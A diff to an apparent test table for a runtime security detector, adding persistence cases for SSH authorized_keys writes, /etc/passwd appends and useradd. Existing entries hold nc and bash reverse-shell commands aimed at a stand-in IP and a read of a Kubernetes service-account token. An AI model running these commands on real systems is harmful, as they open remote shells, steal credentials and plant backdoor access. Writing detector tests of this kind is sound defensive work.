@@ -259,6 +259,10 @@ static const struct {
     {"SK-EXE-004", EX("exe", "203.0.113.7 4444 -e /bin/sh", .exe = "/bin/nc")},
     {"SK-CRD-004",
      RD("/run/secrets/kubernetes.io/serviceaccount/token", .name = "exe", .exe = "cat")},
+    {"SK-PER-003", WR("/root/.ssh/authorized_keys", .name = "sh", .pvpid = 1, .parent = "node",
+                      .at = 60)}, /* the service was taken over long after its start */
+    {"SK-PER-006", WR("/etc/passwd", .name = "sh", .args = "-c echo x >> /etc/passwd", .vpid = 1)},
+    {"SK-PER-007", EX("useradd", "x", .pvpid = 1, .pargs = "-c useradd x; sleep 9")},
     {"SK-EXE-002", CONN("203.0.113.7:9001", .name = "bash",
                         .args = "-c bash -i >& /dev/tcp/203.0.113.7/9001 0>&1")},
     {"SK-EXE-003",
